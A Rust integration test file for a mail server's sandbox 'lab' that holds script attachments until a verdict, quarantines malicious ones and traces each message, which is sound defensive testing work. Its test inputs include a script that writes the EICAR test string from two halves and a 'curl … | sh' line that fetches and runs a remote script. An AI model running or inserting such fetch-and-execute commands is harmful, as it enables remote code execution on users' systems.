//! Tests of several gates together: mail that waits for the lab's verdict, and the whole way of a message.

use crate::control::gate::{Client, Site, Up, id_in, wait_for};
use crate::lab_vm::Lab;
use base64::Engine;
use serde_json::Value;
use std::fs;
use std::time::{Duration, Instant};

/// A mail with a script attached.
fn mail(subject: &str, script: &str) -> String {
    mail_with(subject, "run.sh", script)
}

/// The same with a file of this name.
fn mail_with(subject: &str, name: &str, script: &str) -> String {
    let encoded = base64::engine::general_purpose::STANDARD.encode(script);
    let lines: Vec<&str> = encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!(
        "From: demo@localhost\r\nSubject: {subject}\r\nMessage-ID: <{subject}@client.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\n\
         Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--",
        lines.join("\r\n")
    )
}

/// Submits a mail with a script. Returns its id.
fn send(up: &Up, password: &str, subject: &str, script: &str) -> String {
    let mut client = Client::login(&up.plain, "demo", password).expect("a login");
    id_in(&client.text("demo@localhost", &["ann@localhost"], &mail(subject, script)))
}

/// Waits longer than other tests, because a VM without KVM has to boot first.
#[track_caller]
pub(crate) fn at_last<T>(what: &str, mut look: impl FnMut() -> Option<T>) -> T {
    let begun = Instant::now();
    loop {
        if let Some(found) = look() {
            return found;
        }
        assert!(begun.elapsed() < Duration::from_secs(240), "waited in vain for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// What a message waits for in the lab, as `weir queue list` shows it.
pub(crate) fn waiting(site: &Site, id: &str) -> Option<String> {
    let queue = site.json(&["queue", "list"]);
    let entry = queue["messages"].as_array()?.iter().find(|entry| entry["message"] == id)?.clone();
    let said = entry["recipients"][0]["last_answer"].as_str()?.to_owned();
    said.contains("waits for the lab").then_some(said)
}

pub(crate) fn quarantined(site: &Site, id: &str) -> Option<Value> {
    let list = site.json(&["quarantine", "list"]);
    list["entries"].as_array()?.iter().find(|entry| entry["message"] == id).cloned()
}

#[track_caller]
pub(crate) fn assert_in_order(text: &str, parts: &[&str]) {
    let mut rest = text;
    for part in parts {
        let Some((_, after)) = rest.split_once(part) else { panic!("{part:?} is missing, or too early, in:\n{text}") };
        rest = after;
    }
}

/// A script that writes the EICAR test file from two halves, so that the file exists only when the script has run.
fn dropper() -> String {
    let [one, two] = weir_scan::eicar::HALVES;
    format!("#!/bin/sh\nprintf '%s' '{one}' > /tmp/payload\nprintf '%s' '{two}' >> /tmp/payload\n")
}

#[test]
fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
    let lab = Lab::with("[\"vm1 tags=linux\"]", "[scan]\nenabled = true\n[scan.lab]\nwait = \"4m\"\n");
    let site = &lab.site;
    let up = site.up();
    assert!(up.said.contains("waits up to 240 s for the lab"), "{}", up.said);
    let password = up.password();
    let bad = send(&up, &password, "bad", &dropper());
    let said = wait_for("the mail to wait", || waiting(site, &bad));
    assert!(said.contains("on run.sh since ") && said.contains("then it is quarantined"), "{said}");
    // Other mail does not wait for it.
    let mut client = Client::login(&up.plain, "demo", &password).expect("a login");
    client.mail("demo@localhost", &["ann@localhost"], "plain");
    site.arrived("ann@localhost", 1);
    let entry = at_last("the verdict", || quarantined(site, &bad));
    lab.keep_snapshots();
    assert_eq!(entry["queue"], "virus", "{entry}");
    let reason = entry["reason"].as_str().unwrap();
    assert!(reason.starts_with("lab: malicious, run.sh (sample ") && reason.contains("payload"), "{reason}");
    let page = site.weir(&["quarantine", "show", &bad]).ok();
    assert!(page.contains("lab: malicious"), "{page}");
    let trace = site.weir(&["trace", &bad]).ok();
    assert_in_order(
        &trace,
        &[
            "smtp        from 127.0.0.1 as demo: <demo@localhost> to <ann@localhost>, subject \"bad\"",
            "throttle    accepted, on its way to 1 recipient",
            "scan        feed ",
            "scan        waits for the lab's verdict on run.sh until ",
            "lab         assigned to machine ",
            "quarantine  quarantine.virus: from <demo@localhost> to 1 recipient: lab: malicious",
            "Now: ",
        ],
    );
    for part in [
        "run.sh (a script, ",
        "vm1 (attempt ",
        "run-linux ",
        "verdict on run.sh: malicious",
        "payload (",
        "found in sample ",
    ] {
        assert!(trace.contains(part), "{part:?} is missing in:\n{trace}");
    }
    // The other ids lead to the same trace.
    let whole = site.json(&["trace", &bad]);
    assert_eq!(site.json(&["trace", "bad@client.example"])["lines"], whole["lines"]);
    let hash = site
        .json(&["lab", "list"])
        .as_array()
        .unwrap()
        .iter()
        .find(|sample| sample["name"] == "run.sh")
        .unwrap()["hash"]
        .as_str()
        .unwrap()
        .to_owned();
    let of_sample = site.weir(&["trace", &hash]).ok();
    assert!(of_sample.contains("verdict on run.sh: malicious") && of_sample.contains(&bad), "{of_sample}");
    site.weir(&["trace", "38exdmxn6hex5qydvved"]).refused(&["nothing is known of 38exdmxn6hex5qydvved", "hint"]);
    site.weir(&["trace", &"ab".repeat(32)]).refused(&["there is no sample"]);

    // The verdict on the same content is known at once.
    let again = send(&up, &password, "again", &dropper());
    let entry = wait_for("the known verdict", || quarantined(site, &again));
    assert_eq!(entry["queue"], "virus");

    // Harmless mail is released, and a kill while it waits loses nothing.
    let good = send(&up, &password, "good", "#!/bin/sh\nsleep 18\nsleep 19\necho hello\n");
    wait_for("the mail to wait", || waiting(site, &good));
    up.kill();
    let _up = site.up();
    let mails = at_last("the harmless mail", || {
        let folder = site.data().join("mail/ann@localhost/Maildir/new");
        let mails: Vec<String> =
            fs::read_dir(&folder).ok()?.flatten().filter_map(|entry| fs::read_to_string(entry.path()).ok()).collect();
        mails.iter().any(|mail| mail.contains("Subject: good")).then_some(mails)
    });
    assert_eq!(mails.iter().filter(|mail| mail.contains("Subject: good")).count(), 1, "once");
    let mail = mails.iter().find(|mail| mail.contains("Subject: good")).unwrap();
    assert!(mail.contains("; lab: "), "{mail}");
    let trace = site.weir(&["trace", &good]).ok();
    assert_in_order(&trace, &["waits for the lab's verdict", "goes on: lab: ", "delivery    to <ann@localhost>: "]);
    let status = site.weir(&["feeds", "status"]).ok();
    assert!(status.contains("Waiting for the lab's verdict: 0 messages"), "{status}");

    // Mail that cannot be called clean is kept, and the trace says why.
    for (subject, script, why) in [
        ("pipe", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n", "runs-fetched"),
        ("tool", "#!/bin/sh\nno-such-tool --now\nexit 0\n", "no-such-tool was not there"),
    ] {
        let kept = send(&_up, &password, subject, script);
        let entry = at_last("the mail in quarantine", || quarantined(site, &kept));
        assert_eq!(entry["queue"], "ext", "{entry}");
        let trace = site.weir(&["trace", &kept]).ok();
        assert!(trace.contains("kept in quarantine/ext: lab: ") && trace.contains(why), "{why}: {trace}");
    }
}

/// What was harmless as a text says nothing of the same content as a script.
#[test]
fn a_verdict_is_not_used_for_a_name_that_has_the_file_run() {
    let site = Site::new(
        "[scan]\nenabled = true\n[scan.lab]\nsend = [\"everything\"]\nwait = \"5m\"\non_unknown = \"pass\"\n[lab]\nenabled = true\nslots = 1\n",
    );
    let up = site.up();
    let mut client = Client::login(&up.plain, "demo", &up.password()).expect("a login");
    for (number, (subject, name)) in
        [("text", "notes.txt"), ("script", "run.sh"), ("again", "again.txt")].into_iter().enumerate()
    {
        let mail = mail_with(subject, name, "echo nobody has seen this before\n");
        id_in(&client.text("demo@localhost", &["ann@localhost"], &mail));
        site.arrived("ann@localhost", number + 1);
    }
    let samples = site.json(&["lab", "list"]);
    let mut names: Vec<&str> =
        samples.as_array().unwrap().iter().filter_map(|sample| sample["name"].as_str()).collect();
    names.sort_unstable();
    assert_eq!(names, ["notes.txt", "run.sh"], "the third is opened as the first was: {samples:#}");
}

/// Drains a lab of one machine, so that it takes no samples for now. Returns the machine's name.
fn drain(site: &Site) -> String {
    let name = wait_for("a leader", || site.json(&["lab", "status"])["leader"].as_str().map(str::to_owned));
    site.weir(&["lab", "drain", &name]).ok();
    name
}

#[test]
fn with_the_lab_stopped_mail_waits_and_the_deadline_decides() {
    let site = Site::new(
        "[scan]\nenabled = true\n[scan.lab]\nwait = \"5m\"\non_unknown = \"pass\"\n[lab]\nenabled = true\nslots = 1\n",
    );
    let up = site.up();
    let password = up.password();
    let machine = drain(&site);
    up.signal("TERM");
    up.ended();
    // Waiting mail survives a kill, and is decided when the lab is there.
    let up = site.up();
    let patient = send(&up, &password, "patient", "#!/bin/sh\necho patient\n");
    wait_for("the mail to wait", || waiting(&site, &patient));
    site.weir(&["quarantine", "show", &patient])
        .refused(&["is not in quarantine: it waits for the lab's verdict on run.sh"]);
    wait_for("the sample", || {
        site.weir(&["trace", &patient]).ok().contains("is with the lab as sample ").then_some(())
    });
    up.kill();
    let up = site.up();
    wait_for("the mail to wait again", || waiting(&site, &patient));
    let status = site.json(&["feeds", "status"]);
    assert_eq!(
        (&status["pending"]["messages"], &status["pending"]["then"]),
        (&1.into(), &"quarantine".into()),
        "{status}"
    );
    site.weir(&["lab", "drain", "--undo", &machine]).ok();
    let mail = fs::read_to_string(&site.arrived("ann@localhost", 1)[0]).unwrap();
    assert!(mail.contains("Subject: patient") && mail.contains("; lab: "), "{mail}");
    assert_eq!(site.json(&["lab", "list"]).as_array().map(Vec::len), Some(1), "handed in once");

    // Without a lab, the time runs out and the policy decides.
    site.weir(&["lab", "drain", &machine]).ok();
    up.signal("TERM");
    up.ended();
    let file = site.home().join("weir.toml");
    let configuration = fs::read_to_string(&file).unwrap().replace("wait = \"5m\"", "wait = \"1s\"");
    fs::write(&file, configuration).unwrap();
    let _up = site.up();
    let late = send(&_up, &password, "late", "#!/bin/sh\necho late\n");
    let entry = wait_for("the policy", || quarantined(&site, &late));
    let reason = entry["reason"].as_str().unwrap();
    assert_eq!(entry["queue"], "error", "{entry}");
    assert!(
        reason.contains("the lab gave no verdict on run.sh within 1 s (sample 2: no machine is plugged in"),
        "{reason}"
    );
    let trace = site.weir(&["trace", &late]).ok();
    assert_in_order(&trace, &["waits for the lab's verdict", "kept in quarantine/error", "quarantine.error"]);

    // A person may release it. The new id leads to the whole trace too.
    site.weir(&["quarantine", "release", &late]).ok();
    site.arrived("ann@localhost", 2);
    let whole = wait_for("the delivery", || {
        let whole = site.json(&["trace", &late]);
        whole["lines"].as_array()?.iter().any(|line| line["event"] == "delivered").then_some(whole)
    });
    let ids: Vec<&str> = whole["messages"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert_eq!(ids.len(), 2, "{whole}");
    let other = ids.iter().find(|id| **id != late).unwrap();
    assert_eq!(site.json(&["trace", other])["lines"], whole["lines"]);
}

#[test]
fn held_mail_of_an_account_goes_to_the_lab_in_bulk() {
    let site = Site::new(
        "[scan]\nenabled = true\n[lab]\nenabled = true\nslots = 1\n[throttle]\nmax_slack = 0\nrate = \"1/h\"\nstop_at = 20\n",
    );
    let up = site.up();
    let password = up.password();
    let mut client = Client::login(&up.plain, "demo", &password).expect("a login");
    for number in 0..6 {
        // There are only two different contents.
        let text = mail(&format!("worm{number}"), &format!("#!/bin/sh\necho {}\n", number % 2));
        let said = client.text("demo@localhost", &[&format!("victim{number}@localhost")], &text);
        assert!(said.contains("held"), "{said}");
    }
    site.weir(&["held", "analyse"]).refused(&["which held mail"]);
    site.weir(&["held", "analyse", "--user", "nobody"]).refused(&["nothing of nobody is held"]);
    let done = site.json(&["held", "analyse", "--user", "demo"]);
    let figures = ["messages", "attachments", "submitted", "known"].map(|field| done[field].as_u64().unwrap());
    assert_eq!(figures, [6, 2, 2, 0], "{done}");
    let again = site.weir(&["held", "analyse", "--user", "demo"]).ok();
    let same = "6 held messages with 2 attachments: 0 submitted to the lab, 2 already known there.";
    assert!(again.contains(same), "{again}");
    wait_for("the samples to end", || {
        let samples = site.json(&["lab", "list"]);
        let all = samples.as_array()?;
        (all.len() == 2 && all.iter().all(|sample| sample["state"] == "done")).then_some(())
    });
    let held = site.json(&["held", "list", "--user", "demo"]);
    let first = held["messages"][0]["message"].as_str().unwrap();
    let trace = site.weir(&["trace", first]).ok();
    assert_in_order(
        &trace,
        &["smtp ", "throttle    held: 1 of 1 recipient waits", "is handed to the lab as sample 1, asked for by cli:"],
    );
    assert!(trace.contains("verdict on run.sh: ") && trace.contains("1 recipient held since"), "{trace}");
    let audit = site.weir(&["audit", "demo"]).ok();
    assert!(audit.contains("held.analyse"), "{audit}");
    // The trace of a message that a person released contains its old id.
    site.weir(&["held", "release", first]).ok();
    wait_for("the release", || {
        let trace = site.weir(&["trace", first]).ok();
        (trace.contains("released from the delay queue by cli:") && trace.contains("leaves the delay queue"))
            .then_some(())
    });
}
